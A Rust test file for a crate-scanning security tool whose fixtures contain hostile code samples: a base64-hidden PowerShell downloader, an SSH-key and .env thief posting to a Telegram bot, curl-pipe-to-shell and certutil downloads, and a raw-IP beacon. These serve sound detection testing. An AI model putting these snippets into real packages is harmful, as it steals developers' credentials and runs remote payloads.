//! Fixture packages written into temporary directories, one per signal, plus clean controls
//! that must raise nothing at `warn` or above. Addresses in clean fixtures are loopback or
//! documentation ranges; the drop-site names in signal fixtures are never contacted (static
//! text).

use std::path::Path;

use inventory::{scan_package, CapabilityKind, CrateInventory, Level, Signal, SignalCode};

const MANIFEST: &str = "[package]\nname = \"fixture\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";

/// Writes `files` (relative path, contents) into a fresh package directory and scans it.
fn scan(files: &[(&str, &[u8])]) -> CrateInventory {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), files);
    scan_package(dir.path(), "fixture", "0.1.0").unwrap()
}

fn write(root: &Path, files: &[(&str, &[u8])]) {
    if !files.iter().any(|(p, _)| *p == "Cargo.toml") {
        std::fs::write(root.join("Cargo.toml"), MANIFEST).unwrap();
    }
    for (path, contents) in files {
        let p = root.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, contents).unwrap();
    }
}

/// The signals of `code` at `level` or above.
fn signals(inv: &CrateInventory, code: SignalCode, level: Level) -> Vec<&Signal> {
    inv.signals
        .iter()
        .filter(|s| s.code == code && s.level >= level)
        .collect()
}

#[track_caller]
fn expect(inv: &CrateInventory, code: SignalCode, level: Level) -> &Signal {
    let found = signals(inv, code, level);
    assert!(
        !found.is_empty(),
        "no {code} at {level:?} or above in {:#?}",
        inv.signals
    );
    found[0]
}

#[track_caller]
fn assert_clean(inv: &CrateInventory) {
    let loud: Vec<_> = inv.signals_at_least(Level::Warn).collect();
    assert!(loud.is_empty(), "a clean fixture raised {loud:#?}");
}

#[test]
fn windows_only_payload_with_base64_fragments_and_powershell() {
    let lib = r#"
pub fn hello() -> &'static str { "hi" }

#[cfg(windows)]
mod payload {
    use std::process::Command;

    const PARTS: [&str; 5] = ["aHR0cHM6Ly91", "cGRhdGUtY2Ru", "LndvcmtlcnMu", "ZGV2L3N0YWdl", "Mi5wczE="];

    pub fn stage() {
        let encoded = PARTS.concat();
        let cmd = format!("iwr {} -OutFile $env:TEMP\\s.ps1", encoded);
        let _ = Command::new("powershell").args(["-NoProfile", "-Command", &cmd]).spawn();
    }
}
"#;
    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
    let enc = expect(&inv, SignalCode::EncodedString, Level::Error);
    assert_eq!(enc.path, "src/lib.rs");
    assert!(
        enc.text.contains("update-cdn.workers.dev/stage2.ps1"),
        "{enc:?}"
    );
    assert!(enc.reason.contains("base64"), "{enc:?}");
    let drop = expect(&inv, SignalCode::AddressLiteral, Level::Warn);
    assert!(drop.reason.contains("workers.dev"), "{drop:?}");
    let shell = expect(&inv, SignalCode::ShellDownload, Level::Warn);
    assert!(shell.reason.contains("powershell"), "{shell:?}");
    assert!((6..=14).contains(&shell.line), "{shell:?}");
    let process = &inv.capabilities[&CapabilityKind::Process];
    assert!(
        process.details.iter().any(|d| d == "powershell"),
        "{process:?}"
    );
}

#[test]
fn shipped_elf_binary_run_by_build_script() {
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.resize(64, 0);
    let build = r#"
fn main() {
    std::process::Command::new("bin/helper").status().unwrap();
}
"#;
    let inv = scan(&[
        ("bin/helper", &elf),
        ("build.rs", build.as_bytes()),
        ("src/lib.rs", b""),
    ]);
    let bin = expect(&inv, SignalCode::ShippedBinary, Level::Warn);
    assert_eq!(bin.path, "bin/helper");
    assert!(bin.reason.contains("ELF"), "{bin:?}");
    assert!(bin.text.contains("7f 45 4c 46"), "{bin:?}");
    assert!(inv.capabilities.contains_key(&CapabilityKind::BuildScript));
    let process = &inv.capabilities[&CapabilityKind::Process];
    assert_eq!(process.places[0].path, "build.rs");
    assert!(process.details.iter().any(|d| d == "bin/helper"));
    assert_eq!(inv.files.binary, 1);
}

#[test]
fn dotenv_and_ssh_thief_posting_to_a_chat_bot() {
    let lib = r#"
use std::fs;
use std::path::PathBuf;

fn home() -> PathBuf { PathBuf::from(std::env::var("HOME").unwrap_or_default()) }

pub fn collect() -> Vec<u8> {
    let mut loot = Vec::new();
    for p in [".env", ".ssh/authorized_keys", ".ssh/id_rsa"] {
        if let Ok(b) = fs::read(home().join(p)) { loot.extend(b); }
    }
    loot
}

pub fn send(loot: Vec<u8>) {
    let _ = reqwest::blocking::Client::new()
        .post("https://api.telegram.org/bot123:abc/sendDocument")
        .body(loot)
        .send();
}
"#;
    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
    let secrets = signals(&inv, SignalCode::SecretPath, Level::Warn);
    let texts: Vec<&str> = secrets.iter().map(|s| s.text.as_str()).collect();
    assert!(texts.contains(&".env"), "{secrets:#?}");
    assert!(texts.contains(&".ssh/authorized_keys"), "{secrets:#?}");
    let bot = expect(&inv, SignalCode::AddressLiteral, Level::Warn);
    assert!(bot.reason.contains("api.telegram.org"), "{bot:?}");
    assert_eq!(bot.line, 17);
    let net = &inv.capabilities[&CapabilityKind::Net];
    assert_eq!(net.details, ["reqwest"]);
    assert!(inv.capabilities[&CapabilityKind::Env]
        .details
        .contains(&"HOME".to_owned()));
    assert!(inv.capabilities.contains_key(&CapabilityKind::Fs));
}

#[test]
fn private_key_and_token_readers() {
    let lib = r#"
pub fn keys() -> Vec<String> {
    let mut out: Vec<String> = std::env::var("DEPLOY_PRIVATE_KEY").into_iter().collect();
    out.extend(std::env::vars().filter(|(k, _)| k.ends_with("_TOKEN")).map(|(_, v)| v));
    out
}
"#;
    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
    let found = signals(&inv, SignalCode::SecretEnv, Level::Warn);
    let texts: Vec<&str> = found.iter().map(|s| s.text.as_str()).collect();
    assert!(texts.contains(&"DEPLOY_PRIVATE_KEY"), "{found:#?}");
    assert!(texts.contains(&"_TOKEN"), "{found:#?}");
    assert!(inv.capabilities[&CapabilityKind::Env]
        .details
        .contains(&"DEPLOY_PRIVATE_KEY".to_owned()));
}

#[test]
fn c_constructor_in_shipped_source() {
    let c = b"#include <stdlib.h>\n\n__attribute__((constructor)) static void boot(void) {\n    system(\"id\");\n}\n";
    let inv = scan(&[("src/lib.rs", b""), ("csrc/boot.c", c)]);
    let ctor = expect(&inv, SignalCode::StaticConstructor, Level::Warn);
    assert_eq!((ctor.path.as_str(), ctor.line), ("csrc/boot.c", 3));
    assert_eq!(inv.files.native, 1);
}

#[test]
fn a_c_constructor_is_info_when_nothing_in_the_package_reaches_out() {
    // An allocator's initializer (jemalloc's shape): no socket, no program, no loaded library.
    let c = b"#pragma section(\".CRT$XCU\", read)\nstatic void init(void) { arena_boot(); }\n/* called before fork() */\n";
    let build = b"fn main() { std::process::Command::new(\"make\").status().unwrap(); }\n";
    // Its build script and its C tests start programs; users never run those.
    let fork = b"int main(void) { if (fork() == 0) { return 0; } return 1; }\n";
    let inv = scan(&[
        ("src/lib.rs", b""),
        ("build.rs", build),
        ("jemalloc/src/init.c", c),
        ("jemalloc/test/unit/fork.c", fork),
    ]);
    let ctor = expect(&inv, SignalCode::StaticConstructor, Level::Info);
    assert!(ctor.reason.contains("vet's load phase"), "{ctor:#?}");
    assert!(!inv.capabilities.contains_key(&CapabilityKind::Net));

    // The same constructor in a package whose C code connects somewhere stays a warning, and
    // the call is a `net` capability of the package.
    let net = b"int beacon(void) { int fd = socket(2, 1, 0); return connect (fd, 0, 0); }\n";
    let inv = scan(&[
        ("src/lib.rs", b""),
        ("jemalloc/src/init.c", c),
        ("jemalloc/src/net.c", net),
    ]);
    let ctor = expect(&inv, SignalCode::StaticConstructor, Level::Warn);
    assert!(
        ctor.reason.contains("net at jemalloc/src/net.c:1"),
        "{ctor:#?}"
    );
    let cap = &inv.capabilities[&CapabilityKind::Net];
    assert_eq!(cap.places[0].path, "jemalloc/src/net.c");
    assert!(cap.details.contains(&"socket".to_owned()), "{cap:#?}");

    // Rust code that reaches the network counts too (a constructor can call into it).
    let lib = b"pub fn send() { let _ = std::net::TcpStream::connect(\"127.0.0.1:9\"); }\n";
    let inv = scan(&[("src/lib.rs", lib), ("jemalloc/src/init.c", c)]);
    expect(&inv, SignalCode::StaticConstructor, Level::Warn);
}

#[test]
fn init_array_link_section_and_ctor_attribute() {
    let lib = r#"
extern "C" fn boot() {}

#[used]
#[link_section = ".init_array"]
static BOOT: extern "C" fn() = boot;

#[ctor::ctor]
fn also_boot() {}
"#;
    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
    let found = signals(&inv, SignalCode::StaticConstructor, Level::Warn);
    assert_eq!(found.len(), 2, "{found:#?}");
    assert!(found
        .iter()
        .any(|s| s.line == 5 && s.reason.contains(".init_array")));
    assert!(found.iter().any(|s| s.line == 8 && s.text == "#[ctor]"));
}

#[test]
fn include_bytes_of_a_program_but_not_of_an_image() {
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.resize(64, 0);
    let lib = r#"
static PAYLOAD: &[u8] = include_bytes!("../assets/blob.bin");
static LOGO: &[u8] = include_bytes!("../assets/logo.png");
static NOTES: &[u8] = include_bytes!("notes.txt");
"#;
    let inv = scan(&[
        ("src/lib.rs", lib.as_bytes()),
        ("assets/blob.bin", &elf),
        ("assets/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("src/notes.txt", b"plain text"),
    ]);
    let found = signals(&inv, SignalCode::IncludeBinary, Level::Info);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].level, Level::Warn);
    assert_eq!(found[0].line, 2);
    assert!(found[0].reason.contains("ELF"));
}

#[test]
fn shipped_script_piping_a_download_into_a_shell() {
    let script = b"#!/bin/sh\nset -e\ncurl -fsSL https://get.example.net/install | sh\n";
    let inv = scan(&[("src/lib.rs", b""), ("scripts/setup.sh", script)]);
    let shipped = expect(&inv, SignalCode::ShippedScript, Level::Info);
    assert_eq!(shipped.path, "scripts/setup.sh");
    let dl = expect(&inv, SignalCode::ShellDownload, Level::Warn);
    assert_eq!((dl.path.as_str(), dl.line), ("scripts/setup.sh", 3));
}

#[test]
fn raw_ip_url_hex_command_and_concat_webhook() {
    let lib = r#"
pub const C2: &str = "http://45.13.7.9:4444/beacon";
pub const CMD: &str = "6375726c202d732068747470733a2f2f706173746562696e2e636f6d2f7261772f78207c207368";
pub fn hook() -> &'static str {
    concat!("https://hooks.", "slack", ".com/services/T0/B0/x")
}
"#;
    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
    let ip = signals(&inv, SignalCode::AddressLiteral, Level::Warn);
    assert!(
        ip.iter()
            .any(|s| s.line == 2 && s.reason.contains("raw IP")),
        "{ip:#?}"
    );
    let hex = expect(&inv, SignalCode::EncodedString, Level::Error);
    assert_eq!(hex.line, 3);
    assert!(
        hex.text.starts_with("curl -s https://pastebin.com"),
        "{hex:?}"
    );
    let joined = signals(&inv, SignalCode::EncodedString, Level::Warn);
    assert!(
        joined
            .iter()
            .any(|s| s.line == 5 && s.reason.contains("concat!")),
        "{joined:#?}"
    );
    assert!(
        ip.iter()
            .any(|s| s.line == 5 && s.reason.contains("hooks.slack.com")),
        "{ip:#?}"
    );
}

#[test]
fn unparsable_rust_is_a_signal_and_still_scanned() {
    let broken = b"fn broken( {\n    let u = \"https://paste.ee/r/x\";\n";
    let inv = scan(&[("src/lib.rs", b"pub fn ok() {}"), ("src/broken.rs", broken)]);
    let parse = expect(&inv, SignalCode::ParseError, Level::Info);
    assert_eq!(parse.path, "src/broken.rs");
    assert_eq!(parse.level, Level::Info);
    let drop = expect(&inv, SignalCode::AddressLiteral, Level::Warn);
    assert_eq!((drop.path.as_str(), drop.line), ("src/broken.rs", 2));
    assert_eq!((inv.files.rust, inv.files.rust_unparsed), (2, 1));
}

#[test]
fn proc_macro_and_build_script_from_the_manifest() {
    let manifest = "[package]\nname = \"m\"\nversion = \"1.0.0\"\nbuild = \"gen.rs\"\n\n[lib]\nproc-macro = true\n";
    let inv = scan(&[
        ("Cargo.toml", manifest.as_bytes()),
        ("gen.rs", b"fn main() {}"),
        ("src/lib.rs", b""),
    ]);
    let pm = &inv.capabilities[&CapabilityKind::ProcMacro];
    assert_eq!(
        (pm.places[0].path.as_str(), pm.places[0].line),
        ("Cargo.toml", 7)
    );
    assert_eq!(
        inv.capabilities[&CapabilityKind::BuildScript].places[0].path,
        "gen.rs"
    );
}

#[test]
fn clean_control_raises_nothing_at_warn() {
    let lib = r#"
//! A clean crate. Docs link: https://docs.rs/clean and an address 203.0.113.9 in prose.
use std::io::Write;
use std::net::TcpStream;

/// Connects to a local test server.
pub fn ping() -> std::io::Result<()> {
    let mut s = TcpStream::connect("127.0.0.1:8080")?;
    s.write_all(b"ping")?;
    let _doc = "http://192.0.2.1/example";
    Ok(())
}

pub fn out_file() -> std::path::PathBuf {
    let dir = std::env::var("OUT_DIR").unwrap_or_default();
    let p = std::path::Path::new(&dir).join("gen.rs");
    std::fs::write(&p, "// generated").unwrap();
    p
}

pub const VERSION_OID: &str = "2.5.4.3";
pub const SHA: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
pub const WORDS: &str = "SGVsbG8gV29ybGQh";
static ICON: &[u8] = include_bytes!("../icon.png");

#[cfg(test)]
mod tests {
    #[test]
    fn resolver() {
        assert_eq!("8.8.8.8:53".len(), 10);
        let _ = "93.184.216.34";
    }
}
"#;
    let build = r#"
fn main() {
    println!("cargo:rerun-if-env-changed=OPENSSL_DIR");
    let _ = std::env::var("OPENSSL_DIR");
    let _ = std::env::var("CARGO_CFG_TARGET_OS");
    std::process::Command::new("cc").args(["-c", "csrc/x.c", "-o"]).status().unwrap();
}
"#;
    let inv = scan(&[
        ("src/lib.rs", lib.as_bytes()),
        ("build.rs", build.as_bytes()),
        (
            "csrc/x.c",
            b"#include <zlib.h>\nint f(void) { return 0; }\n",
        ),
        ("icon.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("tests/data/sample.gz", b"\x1f\x8b\x08\0\0\0\0\0"),
        (
            "README.md",
            b"# clean\n\n`curl https://example.com | sh` in prose.\n",
        ),
    ]);
    assert_clean(&inv);
    for kind in [
        CapabilityKind::Net,
        CapabilityKind::Fs,
        CapabilityKind::Env,
        CapabilityKind::Process,
        CapabilityKind::BuildScript,
    ] {
        assert!(
            inv.capabilities.contains_key(&kind),
            "{kind:?} missing from {:#?}",
            inv.capabilities
        );
    }
    let env = &inv.capabilities[&CapabilityKind::Env];
    for var in ["OUT_DIR", "OPENSSL_DIR", "CARGO_CFG_TARGET_OS"] {
        assert!(
            env.details.contains(&var.to_owned()),
            "{var} not in {env:?}"
        );
    }
    assert!(inv.capabilities[&CapabilityKind::Process]
        .details
        .contains(&"cc".to_owned()));
    let gz = expect(&inv, SignalCode::ShippedBinary, Level::Info);
    assert_eq!(gz.level, Level::Info);
}

#[test]
fn clean_proc_macro_control() {
    let lib = r#"
use proc_macro::TokenStream;
use quote::quote;

#[proc_macro_derive(Hello)]
pub fn derive(input: TokenStream) -> TokenStream {
    let _ = input;
    quote!(impl Hello for X { fn hello() -> &'static str { "hello, https://docs.rs" } }).into()
}

macro_rules! names {
    ($($n:ident),*) => { &[$(stringify!($n)),*] };
}
"#;
    let manifest =
        "[package]\nname = \"hello-derive\"\nversion = \"1.0.0\"\n[lib]\nproc-macro = true\n";
    let inv = scan(&[
        ("Cargo.toml", manifest.as_bytes()),
        ("src/lib.rs", lib.as_bytes()),
    ]);
    assert_clean(&inv);
    assert!(inv.capabilities.contains_key(&CapabilityKind::ProcMacro));
}

#[test]
fn report_round_trips_through_json() {
    let inv = scan(&[(
        "src/lib.rs",
        b"pub fn f() { unsafe { std::hint::unreachable_unchecked() } }",
    )]);
    let json = serde_json::to_value(&inv).unwrap();
    assert_eq!(json["capabilities"]["unsafe"]["count"], 1);
    assert_eq!(json["capabilities"]["unsafe"]["places"][0]["line"], 1);
    let back: CrateInventory = serde_json::from_value(json).unwrap();
    assert_eq!(back, inv);
}

#[test]
fn missing_root_is_an_error() {
    let err = scan_package(Path::new("/nonexistent/airlock-inventory"), "x", "0").unwrap_err();
    assert!(err.to_string().contains("not a directory"), "{err}");
}

#[test]
fn encoded_plain_url_is_warn_and_encoded_drop_site_is_error() {
    let lib = r#"
pub const DOCS: &str = "aHR0cHM6Ly9kb2NzLnJzL3gveQ==";
pub const DROP: &str = "aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3g=";
"#;
    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
    let found = signals(&inv, SignalCode::EncodedString, Level::Info);
    let at = |line: usize| found.iter().find(|s| s.line == line).map(|s| s.level);
    assert_eq!(at(2), Some(Level::Warn), "{found:#?}");
    assert_eq!(at(3), Some(Level::Error), "{found:#?}");
}

#[test]
fn test_code_lowers_levels_but_src_does_not() {
    let thief =
        r#"pub fn f() -> Vec<&'static str> { vec!["/root/.ssh/id_rsa", "45.13.7.9:4444"] }"#;
    let in_tests = scan(&[("src/lib.rs", b""), ("tests/t.rs", thief.as_bytes())]);
    assert!(signals(&in_tests, SignalCode::SecretPath, Level::Warn).is_empty());
    expect(&in_tests, SignalCode::SecretPath, Level::Info);
    let cfg_test = format!("#[cfg(test)]\nmod tests {{\n{thief}\n}}\n");
    let in_cfg_test = scan(&[("src/lib.rs", cfg_test.as_bytes())]);
    assert!(signals(&in_cfg_test, SignalCode::SecretPath, Level::Warn).is_empty());
    let in_src = scan(&[("src/lib.rs", thief.as_bytes())]);
    expect(&in_src, SignalCode::SecretPath, Level::Warn);
}

#[test]
fn import_libraries_and_prebuilt_object_code_are_info_and_programs_warn() {
    let member = |name: &str, body: &[u8]| {
        let mut h = format!(
            "{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n",
            0,
            0,
            0,
            644,
            body.len()
        )
        .into_bytes();
        h.extend_from_slice(body);
        if body.len() % 2 == 1 {
            h.push(b'\n');
        }
        h
    };
    let mut import = b"!<arch>\n".to_vec();
    import.extend(member("/", b"\0\0\0\0"));
    import.extend(member(
        "k32.dll/",
        b"\0\0\xff\xff\0\0\x64\x86GetTickCount\0k32.dll\0",
    ));
    let mut code = b"!<arch>\n".to_vec();
    let mut obj = b"\x64\x86\x01\0".to_vec();
    obj.resize(20, 0);
    obj.extend(b".text\0\0\0");
    obj.extend([0u8; 8]);
    obj.extend(4096u32.to_le_bytes());
    obj.resize(60, 0);
    code.extend(member("evil.o/", &obj));
    // An ELF header: class 64, little-endian, e_type at offset 16.
    let elf = |e_type: u16| {
        let mut h = b"\x7fELF\x02\x01\x01".to_vec();
        h.resize(16, 0);
        h.extend(e_type.to_le_bytes());
        h.resize(64, 0);
        h
    };
    let inv = scan(&[
        ("src/lib.rs", b""),
        ("lib/k32.lib", &import),
        ("lib/libevil.a", &code),
        ("pregenerated/x86_64-aes.obj", &obj),
        ("pregenerated/aes-elf.o", &elf(1)),
        ("bin/helper", &elf(2)),
        ("bin/libhelper.so", &elf(3)),
    ]);
    let bins = signals(&inv, SignalCode::ShippedBinary, Level::Info);
    let found = |p: &str| bins.iter().find(|s| s.path == p).expect(p);
    assert_eq!(found("lib/k32.lib").level, Level::Info, "{bins:#?}");
    assert!(found("lib/k32.lib").reason.contains("no code"));
    for object in [
        "lib/libevil.a",
        "pregenerated/x86_64-aes.obj",
        "pregenerated/aes-elf.o",
    ] {
        let s = found(object);
        assert_eq!(s.level, Level::Info, "{object}: {bins:#?}");
        assert!(s.reason.contains("prebuilt object code"), "{s:?}");
    }
    for program in ["bin/helper", "bin/libhelper.so"] {
        assert_eq!(found(program).level, Level::Warn, "{program}: {bins:#?}");
    }
}

#[test]
fn deep_nesting_and_long_chains_do_not_crash_the_scanner() {
    let deep = format!(
        "fn f() {{ let _ = {}1{}; }}\n",
        "(".repeat(20_000),
        ")".repeat(20_000)
    );
    let long = format!("fn g() -> u32 {{ {}1 }}\n", "1 + ".repeat(1_000_000));
    let parsed = format!("fn h() -> u32 {{ {}1 }}\n", "1 + ".repeat(15_000));
    let inv = scan(&[
        ("src/lib.rs", deep.as_bytes()),
        ("src/long.rs", long.as_bytes()),
        ("src/parsed.rs", parsed.as_bytes()),
    ]);
    let guarded: Vec<&str> = signals(&inv, SignalCode::ParseError, Level::Info)
        .iter()
        .map(|s| s.path.as_str())
        .collect();
    assert_eq!(guarded, ["src/lib.rs", "src/long.rs"]);
    assert_eq!((inv.files.rust, inv.files.rust_unparsed), (3, 2));
}

#[test]
fn cfg_if_wrapped_certutil_download_and_literal_paths() {
    let lib = r#"
cfg_if::cfg_if! {
    if #[cfg(windows)] {
        pub fn fetch() {
            let _ = std::process::Command::new("certutil")
                .args(["-urlcache", "-f", "http://45.13.7.9/a.exe", "a.exe"])
                .status();
        }
    } else {
        pub fn fetch() {}
    }
}

pub fn read() -> String {
    std::fs::read_to_string("/etc/hostname").unwrap_or_default() + &std::fs::read_to_string("data.txt").unwrap_or_default()
}
"#;
    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
    let dl = expect(&inv, SignalCode::ShellDownload, Level::Warn);
    assert!(
        dl.reason.contains("certutil") || dl.reason.contains("urlcache"),
        "{dl:?}"
    );
    assert!(signals(&inv, SignalCode::AddressLiteral, Level::Warn)
        .iter()
        .any(|s| s.line == 6));
    assert!(inv.capabilities[&CapabilityKind::Process]
        .details
        .contains(&"certutil".to_owned()));
    let fs = &inv.capabilities[&CapabilityKind::Fs].details;
    assert!(
        fs.contains(&"/etc/hostname (outside the crate)".to_owned()),
        "{fs:?}"
    );
    assert!(fs.contains(&"data.txt".to_owned()), "{fs:?}");
}

#[test]
fn a_windows_shell_command_line_that_downloads_is_seen_in_every_form() {
    let forms: [&[u8]; 4] = [
        br#"#[cfg(windows)]
pub fn f() { let _ = std::process::Command::new("cmd").args(["/C", "certutil -urlcache -split -f http://127.0.0.1:9/x.exe x.exe"]).spawn(); }"#,
        br#"#[cfg(windows)]
pub fn f() { let _ = std::process::Command::new("cmd").arg("/C").arg("certutil.exe -urlcache -f http://127.0.0.1:9/x x").status(); }"#,
        br#"#[cfg(windows)]
pub fn f() { let cmd = ["/C", "bitsadmin /transfer j http://127.0.0.1:9/x C:\\x"]; let _ = std::process::Command::new("cmd.exe").args(&cmd).output(); }"#,
        br#"#[cfg(windows)]
pub fn f() { let script = format!("{} {}", "powershell -c", "iwr http://127.0.0.1:9/x"); let _ = std::process::Command::new("cmd").args(["/C", &script]).spawn(); }"#,
    ];
    for (i, src) in forms.iter().enumerate() {
        let inv = scan(&[("src/lib.rs", src)]);
        let found = signals(&inv, SignalCode::ShellDownload, Level::Warn);
        assert!(!found.is_empty(), "form {i}: {:#?}", inv.signals);
    }
}

#[test]
fn a_git_checkouts_repository_metadata_is_not_the_package() {
    let inv = scan(&[
        ("src/lib.rs", b"pub fn f() {}"),
        (
            ".git/hooks/pre-push.sample",
            b"#!/bin/sh\ncurl http://127.0.0.1:9 | sh\n",
        ),
        (".git/index", b"DIRC\0\0\0\x02"),
    ]);
    assert!(
        inv.signals
            .iter()
            .all(|s| !s.path.starts_with(".git/") && s.code != SignalCode::ShellDownload),
        "{:#?}",
        inv.signals
    );
    assert!(inv
        .signals
        .iter()
        .any(|s| s.code == SignalCode::NotScanned && s.path == ".git"));
}
